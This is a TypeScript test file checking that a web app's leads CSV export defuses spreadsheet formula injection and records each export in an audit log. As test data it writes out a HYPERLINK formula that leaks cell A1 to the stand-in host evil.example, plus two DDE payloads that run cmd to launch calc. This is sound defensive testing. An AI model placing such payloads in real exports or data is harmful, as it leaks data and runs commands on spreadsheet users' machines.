import { schema } from '@tendero/db';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { signedInUser, testAppPerFile } from '../../test/test-app';

/**
 * A client's organisation `=HYPERLINK(...)` reached the manager's spreadsheet
 * as a formula through the leads CSV. No cell of an export may start with `= + - @`, a tab or a CR.
 */
const env = testAppPerFile();
type Person = Awaited<ReturnType<typeof signedInUser>>;
let manager: Person;
let companyId: string;
const organization = '=HYPERLINK("http://evil.example/?leak="&A1,"Open invoice")';

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\n' || (char === '\r' && text[i + 1] === '\n')) {
      if (char === '\r') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += char;
  }
  if (field || row.length > 0) rows.push([...row, field]);
  return rows;
}

beforeAll(async () => {
  const admin = await signedInUser(env.app, env.accounts, { role: 'ADMIN', prefix: 'admin' });
  manager = await signedInUser(env.app, env.accounts, { role: 'MANAGER', prefix: 'mgr', companyName: 'Ledger Co' });
  companyId = manager.user.companyId as string;
  for (const criterion of ['competencies', 'teamSize', 'portfolio', 'serviceQuality']) {
    await env.app.inject({
      method: 'PUT',
      url: `/api/companies/${companyId}/verification/checks`,
      headers: admin.auth,
      payload: { criterion, passed: true, note: 'checked' },
    });
  }
  // Lead export is a Premium feature: an admin grants it by hand.
  await env.app.inject({
    method: 'PUT',
    url: '/api/companies/premium',
    headers: admin.auth,
    payload: { hasPremium: true, email: manager.user.email },
  });
  const clients = [
    { firstName: 'Anna', organization, phone: '+48601234567' },
    { firstName: 'Jan', organization: '@SUM(1+1)*cmd|" /C calc"!A0', phone: null },
    { firstName: 'Ewa', organization: '-2+3+cmd|" /C calc"!A0', phone: null },
  ];
  for (const [index, data] of clients.entries()) {
    const client = await signedInUser(env.app, env.accounts, {
      role: 'CLIENT',
      prefix: `client${index}`,
      firstName: data.firstName,
      phone: data.phone,
    });
    const saved = await env.app.inject({
      method: 'PUT',
      url: `/api/users/${client.user.id}/profile`,
      headers: client.auth,
      payload: { organization: data.organization, shareEmail: true, sharePhone: true },
    });
    expect(saved.statusCode).toBe(204);
    // A review makes the client a lead of the company.
    const review = await env.app.inject({
      method: 'POST',
      url: `/api/companies/${companyId}/reviews`,
      headers: client.auth,
      payload: { rating: 4, text: 'Good work on our yearly books.' },
    });
    expect(review.statusCode).toBe(201);
    // The client shares their details with this company (as sending it an inquiry would; contacts capability).
    await env.database.db
      .insert(schema.contactShares)
      .values({ clientId: client.user.id, companyId, purpose: 'inquiry', sharedAt: new Date() });
  }
});

describe('leads CSV', () => {
  it('reaches the spreadsheet as text: no cell starts with = + - @, tab or carriage return', async () => {
    const response = await env.app.inject({ url: `/api/companies/${companyId}/leads.csv`, headers: manager.auth });
    expect(response.statusCode).toBe(200);
    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(rows.length).toBe(4);
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell))).toEqual([]);
    // What the client typed is all still there, readable, behind a leading apostrophe.
    expect(cells).toContain(`'${organization}`);
    expect(cells).toContain("'+48601234567");
    expect(cells).toContain('\'@SUM(1+1)*cmd|" /C calc"!A0');
  });

  it("is recorded in the activity log: who took the clients' details, of which company, from where", async () => {
    await env.app.inject({ url: `/api/companies/${companyId}/leads.csv`, headers: manager.auth });
    const entries = await env.database.db
      .select()
      .from(schema.auditLog)
      .where(eq(schema.auditLog.action, 'export.leads'));
    expect(entries.at(-1)).toMatchObject({ actorId: manager.user.id, targetType: 'company', targetId: companyId });
    expect(entries.at(-1)?.ip).toBeTruthy();
    // Three leads (the file's fourth row is its header).
    expect(entries.at(-1)?.detail).toMatchObject({ rows: 3 });
  });
});
